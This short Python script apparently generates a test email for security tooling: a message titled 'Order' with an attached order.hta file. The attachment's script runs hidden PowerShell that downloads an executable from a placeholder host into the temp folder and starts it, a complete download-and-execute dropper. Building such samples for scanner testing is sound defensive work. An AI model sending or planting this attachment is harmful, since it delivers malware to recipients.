"""A page called .hta that calls PowerShell, whose words fetch."""
from kit import *


def make():
    page = "<html><body><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden iwr http://x.example.invalid/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe',0)</script></body></html>"
    return (Mail("Order", "o@corp.example.com")
            .text("order\n")
            .attach("order.hta", page.encode()).bytes())
